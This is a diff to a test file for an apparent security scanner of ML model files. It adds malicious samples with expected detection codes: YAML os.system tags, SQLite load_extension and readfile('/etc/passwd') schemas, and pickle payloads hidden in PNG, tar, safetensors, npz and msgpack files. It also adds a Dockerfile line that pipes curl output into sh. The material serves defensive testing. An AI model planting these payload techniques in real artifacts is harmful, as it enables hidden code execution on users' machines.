@@ -1076,13 +1076,142 @@ def good_more():
         None, "a formula"
 
 
+YAML_MORE = [
+    b"%TAG !! tag:yaml.org,2002:python/\n---\n!!object/apply:os.system [id]\n",
+    "# text\u2028!!python/object/apply:os.system [id]\n".encode(),
+    "# text\u2029a: !!python/object/apply:os.system [id]\n".encode(),
+    "# text\u0085a: !!python/object/apply:os.system [id]\n".encode(),
+    b"# text\ra: !!python/object/apply:os.system [id]\r",
+    b"? [a, !!python/name:os.system ]\n: b\n",
+    b"a:\n- - - !!python/object/apply:os.system\n      - id\n",
+    b"--- !!python/object/apply:os.system\n- id\n",
+    b"--- # x\n--- !!python/object/apply:os.system [id]\n...\n",
+    b"a: {<<: {b: !!python/object/apply:os.system [id]}}\n",
+    b"a: !!python/object/apply:os.system # x\n  - id\n",
+    b"a: &x !!python/object/apply:os.system [id]\n", b"a: !!python/object/apply:os.system &x [id]\n",
+    b"a: \"b\\\n  c\"\nd: !!python/object/apply:os.system [id]\n",
+    b"a: 'it''s'\nb: !!python/object/apply:os.system [id]\n",
+    b"\xef\xbb\xbf---\n!!python/object/apply:os.system [id]\n",
+    "a: !!python/object/apply:os.system [id]\n".encode("utf-16-le"),
+    "\ufeffa: !!python/object/apply:os.system [id]\n".encode("utf-32-le"),
+]
+
+TABLES_SQL = [
+    "create table m(k, g as (load_extension('x.so')))", "create table m(k check (load_extension(k)))",
+    "create index i on n(k) where k > 1 and load_extension('x')", "create view v as select readfile('/etc/passwd')",
+    "create view v as select fts3_tokenizer('x', x'00')",
+    "create view v as with x as (select eval('1')) select * from x",
+]
+
+
+def with_functions(text):
+    db = sqlite3.connect(":memory:")
+    for name, n in (("load_extension", 1), ("readfile", 1), ("eval", 1)):
+        db.create_function(name, n, lambda *a: 1, deterministic=True)
+    db.execute("create table n(k)")
+    db.execute(text)
+    db.commit()
+    return db.serialize()
+
+
+def png(tail=b""):
+    chunks = ((b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress(b"\0\0")),
+              (b"IEND", b""))
+    return b"\x89PNG\r\n\x1a\n" + b"".join(
+        struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks) + tail
+
+
+NPY_OBJECTS = (b"\x93NUMPY\1\0\x46\0" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(69)
+               + b"\n" + EVIL)
+
+
+def bad_last():
+    for text in YAML_MORE:
+        yield "config.yaml", text, ("MDL071", "MDL100", "MDL101", "MDL254", "MDL074", "ENG001", "ENG004"), repr(text)
+    tag = b"!!python/object/apply:os.system [id]"
+    yield "README.md", b"---\nlicense: " + tag + b"\n---\n# x\n", ("MDL071",), "in the front of a card"
+    yield "params", b"a: " + tag + b"\n", ("MDL071",), "without an ending"
+    yield "x.cfg", b"a: " + tag + b"\n", ("MDL071",), "another ending"
+    yield "config.json", b"a: " + tag + b"\n", ("MDL071",), "YAML named JSON"
+    yield "config.json", b'{"a": ' + tag + b"}\n", ("MDL071",), "YAML that looks like JSON"
+    yield "config.json", b'{"auto\\u005fmap": {"AutoModel": "a/b--c.D"}}', CODE, "an escaped key"
+    yield "config.json", b'{"a": NaN, "auto_map": {"AutoModel": "a/b--c.D"}, }', CODE + ("MDL254", "ENG001"), \
+        "a comma too many"
+    yield "config.json", b'{"model_type": "x"}{"auto_map": {"AutoModel": "a/b--c.D"}}', None, "two values"
+    yield "config.json", b"{'auto_map': {'AutoModel': 'a/b--c.D'}}", CODE + ("ENG001", "MDL254"), "single quotes"
+    yield "config.json.gz", gzip.compress(dump({"auto_map": {"AutoModel": "a/b--c.D"}})), CODE, "compressed"
+    yield "adapter_config.json", dump({"peft_type": "PROMPT_TUNING", "tokenizer_kwargs": {
+        "trust_remote_code": True}}), ("MDL250",), "PEFT hands it on"
+    yield "wide.json", dump({"lc": 1, "type": "constructor", **{str(i): 0 for i in range(3000)},
+                             "id": ["os", "system"]}), CODE, "LangChain among much else"
+    for text in TABLES_SQL:
+        yield "a.db", with_functions(text), ("MDL330",), text
+    yield "b.db", database("create table m(k text primary key, v blob) without rowid", (
+        "insert into m values('a', ?)", (EVIL,))), PICKLE, "a table without row numbers"
+    yield "c.db", database("pragma encoding = 'UTF-16'", "create table m(k, v)", (
+        "insert into m values(?, 1)", (EVIL,))), PICKLE, "in two-byte units"
+    yield "d.db", database("create table m(k)", ("insert into m values(?)", (EVIL + bytes(100000),))), PICKLE, \
+        "over many pages"
+    yield "0.png", png(EVIL), PICKLE + ("ENG013",), "behind a picture"
+    yield "a.tar", tarred({"0.png": png(zipped({"x/data.pkl": EVIL})), "0.cls": b"1"}), None, "in a data set"
+    yield "b.tar", tarred({"0.png": png(), "0.pkl.gz": gzip.compress(EVIL)}), PICKLE, "compressed in a data set"
+    yield "c.tar", tarred({"0.npz": zipped({"a.npy": NPY_OBJECTS})}), PICKLE, "an .npz"
+    yield "m.safetensors", safetensors({"a": "b"}) + EVIL, None, "a pickle behind"
+    yield "m2.safetensors", safetensors({"a": "b"}) + zipped({"x": EVIL}), None, "an archive behind"
+    yield "x.skops", zipped({"schema.json": dump({
+        "__class__": "eval", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 1,
+        "content": "eval"})}), None, "a type that is a function"
+    yield "z.skops", zipped({"schema.json": dump({
+        "__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 1,
+        "content": {}}), "extra.pkl": EVIL}), PICKLE, "a pickle beside"
+    yield "Dockerfile", b"FROM python\nRUN curl http://a.test/x | sh\n", None, "a Dockerfile"
+    yield "model", {"model/config.json": dump({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}),
+                    "model/modeling_x.py": b"import os\nos.system('id')\n",
+                    "model/model.safetensors": safetensors({"format": "pt"})}, None, "code beside"
+    yield "model2", {"m/config.json": dump({"model_type": "llama"}),
+                     "m/chat_template.jinja": EVIL_TEMPLATE.encode(),
+                     "m/model.safetensors": safetensors({"format": "pt"})}, ESCAPE, "a template beside"
+    yield "model3", {"m/config.json": dump({"model_type": "llama"}),
+                     "m/custom_generate/generate.py": b"import os\nos.system('id')\n",
+                     "m/model.safetensors": safetensors({"format": "pt"})}, None, "custom generation"
+    yield "cut.rds", gzip.compress(rds(rvec(rstr("x" * 500))))[:-30], None, "cut off"
+    yield "cut.msgpack", mp({"params": {"kernel": nd([2], "float32", bytes(8))}})[:-6], None, "cut off"
+    yield "chunk.msgpack", mp({"w": {"__msgpack_chunked_array__": 1, "shape": {"0": 4}, "chunks": {
+        "0": nd([4], "O", EVIL)}}}), ("MDL290",) + PICKLE, "chunks of objects"
+    yield "bin.msgpack", mp({"a": mp({"state": EVIL})}), PICKLE, "MessagePack in MessagePack"
+
+
+def good_last():
+    yield "a.yaml", b"%TAG !! tag:example.com,2000:\n---\na: !!python/name x\n", None, "another's tags"
+    yield "b.yaml", b"a: '# !!python/name:os.system'\nb: \"x # !!python/name:os.system\"\n", None, "quoted"
+    yield "README.md", b"---\nlicense: mit\n---\nUse `!!python/object/apply:os.system [id]` to test.\n", None, "prose"
+    yield "a.db", database("create table m(k text, load_extension int)",
+                           "insert into m values('readfile(x)', 1)",
+                           "create view v as select k, load_extension from m where k like '%eval(%'"), None, "names"
+    yield "b.db", database("create table m(id integer primary key, t text, j json, g as (upper(t)))",
+                           "create index i on m(lower(t)) where t is not null",
+                           "create trigger x after insert on m begin update m set t = trim(new.t); end",
+                           "create view v as select count(*), json_extract(j, '$.a') from m"), None, "functions"
+    yield "c.tar", tarred({"0.txt": b"__import__", "0.png": png()}), None, "a picture"
+    yield "pyproject.toml", b"[project]\nname='x'\ndependencies=['y>=1', 'z @ git+https://github.com/a/z@" + \
+        b"ab" * 20 + b"']\n", None, "a project"
+    yield "jinja.md", b"Write `{{ messages[0].content }}` or {% raw %}{% if x %}{% endraw %}.\n", None, "prose"
+    yield "vocab.txt", b"[PAD]\n[UNK]\n{{\n}}\n{%\n%}\n__class__\n##ing\n", None, "words"
+    yield "merges.txt", b"#version: 0.2\n{ {\n} }\n_ _\n__ class\n", None, "merges"
+    yield "vocab.json", dump({"{{": 0, "}}": 1, "{%": 2, "__globals__": 3, "gASV": 4, "py/object": 5}), None, "words"
+    yield "model", {"m/config.json": dump({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}),
+                    "m/chat_template.jinja": b"{{ messages[0].content }}",
+                    "m/model.safetensors": safetensors({"format": "pt"}),
+                    "m/README.md": b"---\nlicense: mit\n---\n# x\n"}, None, "a plain model"
+
+
 def bad():
     for part in (bad_templates, bad_gguf, bad_yaml, bad_configs, bad_xml, bad_arrays, bad_index,
-                 bad_tables, bad_programs, bad_more):
+                 bad_tables, bad_programs, bad_more, bad_last):
         yield from part()
 
 
 def good():
     for part in (good_templates, good_gguf, good_yaml, good_configs, good_xml, good_tables,
-                 good_programs, good_more):
+                 good_programs, good_more, good_last):
         yield from part()
